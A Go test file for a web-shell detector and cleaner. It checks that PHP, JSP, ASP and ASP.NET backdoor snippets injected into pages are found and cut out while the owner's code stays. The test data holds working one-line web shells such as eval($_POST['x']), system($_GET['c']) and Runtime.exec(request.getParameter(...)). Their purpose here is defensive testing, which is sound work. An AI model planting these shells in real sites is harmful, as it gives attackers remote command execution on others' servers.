package detect

import (
	"slices"
	"strings"
	"testing"

	"github.com/deminer/deminer"
)

// taken applies the changes of a plan as cut-line and edit-line do.
func taken(t *testing.T, body string, cuts []deminer.Action) string {
	t.Helper()
	for _, c := range cuts {
		line := string(c.Target.Line)
		at := strings.Index("\n"+body+"\n", "\n"+line+"\n")
		if at < 0 {
			t.Fatalf("%q is no run of lines", line)
		}
		end := at + len(line)
		by := string(c.Args["new"])
		if c.Verb == deminer.VerbCutLine {
			end = min(end+1, len(body))
		}
		body = body[:at] + by + body[end:]
	}
	return body
}

func dissected(body, ext string) (page, []pageHit) {
	hits := requestHits([]byte(body))
	var spans []span
	for _, h := range hits {
		spans = append(spans, h.span)
	}
	return dissect([]byte(body), ext, spans), hits
}

const evil = `@eval($_POST['x']);`

// TestPagesKeepWhatIsTheOwners: @ in a page marks where the intruder's text stands, in { } with its own newline.
func TestPagesKeepWhatIsTheOwners(t *testing.T) {
	for _, c := range []struct{ name, ext, page, bad string }{
		{"a block on top", ".php", "@<?php\nrequire 'a.php';\n", "<?php " + evil + " ?>\n"},
		{"a block at the bottom", ".php", "<html><?php echo $x; ?></html>\n@", "<?php " + evil + " ?>\n"},
		{"a block at the bottom, no newline", ".php", "<?php\nfoo();\n?>\n@", "<?php " + evil + "?>"},
		{"a line in front", ".php", "<?php\n@require 'a.php';\nrun();\n", evil + "\n"},
		{"behind the tag", ".php", "<?php@\nrequire 'a.php';\n", strings.Repeat(" ", 300) + evil},
		{"between two statements of a line", ".php", "<?php foo();@ bar(); ?>", " " + evil},
		{"in a function", ".php", "<?php\nfunction f($a) {\n@    return \"}\" . $a; // }\n}\n", "    " + evil + "\n"},
		{"in a method behind a here-document", ".php", "<?php\nclass A {\n function f() {\n  $x = <<<E\n } ?> ' \n  E;\n@  return $x;\n }\n}\n", "  " + evil + "\n"},
		{"by way of a name", ".php", "<?php\n@require 'a.php';\nrun($x);\n", "$zz = base64_decode($_POST['x']);\n@eval($zz);\n"},
		{"a conditional of its own", ".php", "<?php\n@$a = f(function ($x) { return $x; });\n", "if (isset($_POST['x'])) { eval($_POST['x']); exit; }\n"},
		{"a conditional without braces", ".php", "<?php\n@g();\n", "if (md5($_GET['p']) == 'a') eval($_REQUEST['q']);\n"},
		{"in the middle of HTML", ".php", "<p>Hello @world</p>\r\n<p>x</p>", "<?= system($_GET['c']) ?>"},
		{"two in one line", ".php", "<b>a@b</b>", "<?php " + evil + "?><?php system($_GET['c']);?>"},
		{"many lines", ".php", "<?php\nfoo();\n?>\n@<p>bye</p>\n", "<?php\nif(isset($_REQUEST['c'])){\n  echo '<pre>';\n  system($_REQUEST['c']);\n  die;\n}\n?>\n"},
		{"windows lines", ".php", "<?php\r\n@foo();\r\n", evil + "\r\n"},
		{"a tiny page of the owner", ".php", "<?php\n@echo 'open';\n", evil + "\n"},
		{"old tags", ".php", "<? foo(); ?>\n@", "<? " + evil + " ?>\n"},
		{"the last statement needs no semicolon", ".php", "<?php foo();@ ?>", " eval($_POST['x'])"},
		{"XML is no code", ".php", "<?xml version='1.0'?>\n@<a/>\n", "<?php " + evil + "?>\n"},
		{"bytes that are no text", ".php", "<?php foo(\"\xff\xfe\x00\");\n@bar();\n", evil + "\n"},
		{"JSP", ".jsp", "<%@ page import=\"java.util.*\" %>\n<p><%= new Date() %></p>\n@", "<%Runtime.getRuntime().exec(request.getParameter(\"i\"));%>\n"},
		{"JSP, a statement of its own", ".jsp", "<%\n int n = list.size();\n@ out.print(n);\n%>\n", " Runtime.getRuntime().exec(request.getParameter(\"i\"));\n"},
		{"JSP that shows what a command printed", ".jsp", "<p><%= title %></p>\n@", "<% java.io.InputStream in = Runtime.getRuntime().exec(request.getParameter(\"i\")).getInputStream(); int a = -1; byte[] b = new byte[2048]; while((a=in.read(b))!=-1){ out.println(new String(b)); } %>\n"},
		{"ASP", ".asp", "<html>\n<% Response.Write(Now()) %>\n@</html>\n", "<%eval request(\"pass\")%>\n"},
		{"ASP.NET", ".aspx", "<%@ Page Language=\"C#\" %>\n<h1><% Response.Write(title); %></h1>\n@", "<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"pass\"],\"unsafe\");%>\n"},
	} {
		t.Run(c.name, func(t *testing.T) {
			owner := strings.Replace(c.page, "@", "", 1)
			if c.ext != ".php" { // directives have the sign, too: the last one counts
				i := strings.LastIndexByte(c.page, '@')
				owner = c.page[:i] + c.page[i+1:]
				c.page = c.page[:i] + c.bad + c.page[i+1:]
			} else {
				c.page = strings.Replace(c.page, "@", c.bad, 1)
			}
			pg, hits := dissected(c.page, c.ext)
			if len(hits) == 0 || pg.whole || pg.unsure != "" {
				t.Fatalf("hits %v, whole %v, unsure %q, spans %v", hits, pg.whole, pg.unsure, pg.spans)
			}
			cuts, ok := pg.cuts("/p")
			if !ok {
				t.Fatal("not cut")
			}
			if got := taken(t, c.page, cuts); got != owner && !strings.Contains(c.bad, "Jscript") {
				t.Errorf("of\n%q\nthere is left\n%q\nbut the owner's was\n%q", c.page, got, owner)
			}
		})
	}
}

func TestPagesThatAreShellsWhole(t *testing.T) {
	for _, c := range []struct{ ext, body string }{
		{".php", "<?php " + evil + " ?>"}, {".php", "<?php\nset_time_limit(0);\n" + evil + "\n"}, {".php", "\n<?php ?>\n<?php if (isset($_GET['c'])) { echo 'x'; system($_GET['c']); } ?>\n"},
		{".php", "<?php $o = shell_exec($_GET['c']); echo \"<pre>$o</pre>\"; ?>"}, {".asp", "<%eval request(\"p\")%>"},
		{".jsp", "<%-- a note with %> in it --%>\n<% if (\"z0\".equals(request.getParameter(\"p\"))) { Process q = Runtime.getRuntime().exec(request.getParameter(\"c\")); } %>"},
		{".jsp", "<%@page import=\"java.io.*\"%><%Process p = Runtime.getRuntime().exec(request.getParameter(\"c\")); BufferedReader r = new BufferedReader(new InputStreamReader(p.getInputStream())); String l = r.readLine(); out.print(l);%>"},
	} {
		if pg, hits := dissected(c.body, c.ext); len(hits) == 0 || !pg.whole || pg.unsure != "" {
			t.Errorf("%q: hits %d, whole %v, unsure %q", c.body, len(hits), pg.whole, pg.unsure)
		}
	}
}

func TestPagesLeftToTheOwner(t *testing.T) {
	for _, c := range []struct{ ext, body string }{
		{".php", "<?php\nif (eval($_POST['x'])) { foo(); }\n"},                                                                    // the condition of other code
		{".php", "<?php\nif ($a) eval($_POST['x']); else foo();\n"},                                                               // other code hangs on it
		{".php", "<?php\nswitch ($a) { case 1: eval($_POST['x']); break; }\n"},                                                    // a label would go
		{".php", "<?php\nfunction f() { return eval($_POST['x']); }\necho f();\n"},                                                // its value is used
		{".php", "<?php if ($a): eval($_POST['x']); endif; foo();"},                                                               // the form without braces
		{".php", "<?php foo(); } eval($_POST['x']);"},                                                                             // braces do not match
		{".php", "eval($_POST['x'])"},                                                                                             // outside of the tags
		{".php", "<?php " + evil + " function a() { passthru('x'); popen('x'); fsockopen('y'); move_uploaded_file(1, 2); } a();"}, // the rest is one, too
		{".jsp", "<% Process p = Runtime.getRuntime().exec(request.getParameter(\"c\")); cart.save(p); %>"},
		{".jsp", "<%-- <% Runtime.getRuntime().exec(request.getParameter(\"c\")); %> --%>\n<p>Shop</p>\n"}, // a comment does not run
	} {
		if pg, hits := dissected(c.body, c.ext); len(hits) == 0 || pg.unsure == "" {
			t.Errorf("%q: hits %d, whole %v, spans %v: want it left to the owner", c.body, len(hits), pg.whole, pg.spans)
		}
	}
}

// TestAnOwnersOwnPageIsNotTouched: small pages and dispatchers that read requests.
func TestAnOwnersOwnPageIsNotTouched(t *testing.T) {
	for _, body := range []string{
		"<?php\nrequire __DIR__ . '/app.php';\n(new App)->run($_GET['page'] ?? 'home');\n",
		"<?php $name = $_GET['name'] ?? ''; echo htmlspecialchars($name);",
		"<?php system('ping -c1 ' . escapeshellarg($_GET['host']));",
		"<?php include 'inc/' . basename($_GET['p']) . '.php';",
	} {
		if hits := requestHits([]byte(body)); len(hits) > 0 {
			t.Errorf("%q: %v", body, hits)
		}
	}
}

func FuzzPage(f *testing.F) {
	for _, s := range []string{"<?php " + evil + " ?>", "<?php\nfunction f($a) {\n eval($_POST['x']);\n}", "<% eval request(\"x\") %>", "a<?= system($_GET[1]) ?>b", "<?php $x = <<<E\n}\nE;\n" + evil} {
		f.Add(s, ".php")
	}
	f.Fuzz(func(t *testing.T, body, ext string) {
		pg, _ := dissected(body, ext)
		if !slices.IsSortedFunc(pg.spans, func(a, b span) int { return a.from - b.from }) {
			t.Fatalf("spans out of order: %v", pg.spans)
		}
		at := 0
		for _, s := range pg.spans {
			if s.from < at || s.to <= s.from || s.to > len(body) {
				t.Fatalf("bad spans %v of %d bytes", pg.spans, len(body))
			}
			at = s.to
		}
		cuts, _ := pg.cuts("/p")
		for _, c := range cuts {
			if line := string(c.Target.Line); !strings.Contains("\n"+body+"\n", "\n"+line+"\n") || len(c.Args["new"]) >= len(line) {
				t.Fatalf("%q is no run of lines of %q, or grows to %q", line, body, c.Args["new"])
			}
		}
	})
}

// TestTwoSteps: what a request brings is followed through one name into the language itself, and nowhere else.
func TestTwoSteps(t *testing.T) {
	for page, want := range map[string]int{
		"<?php $a=$_POST['k']; eval($a);": 2,
		"<?php $a = gzinflate(base64_decode($_COOKIE['k'])); assert($a); eval(base64_decode($a));": 4,
		"<?php $a=$_POST['k']; eval($b);":                             0,
		"<?php eval($a); $a=$_POST['k'];":                             0,
		"<?php $a=$_POST['k']; $a=escapeshellarg($a); system($a);":    0,
		"<?php $a=$_POST['k']; $tpl->evaluate($a); echo 'eval($a)';":  2, // a text is not told from code: nobody writes that one
		"<?php $name=$_POST['name']; save($name); eval($this->code);": 0,
	} {
		if hits := requestHits([]byte(page)); len(hits) != want {
			t.Errorf("%s: %d hits, want %d: %v", page, len(hits), want, hits)
		}
	}
	if pg, _ := dissected("<?php\n$a=$_POST['k'];\neval($a);\n", ".php"); !pg.whole {
		t.Errorf("a page that does nothing else is not whole: %+v", pg)
	}
}
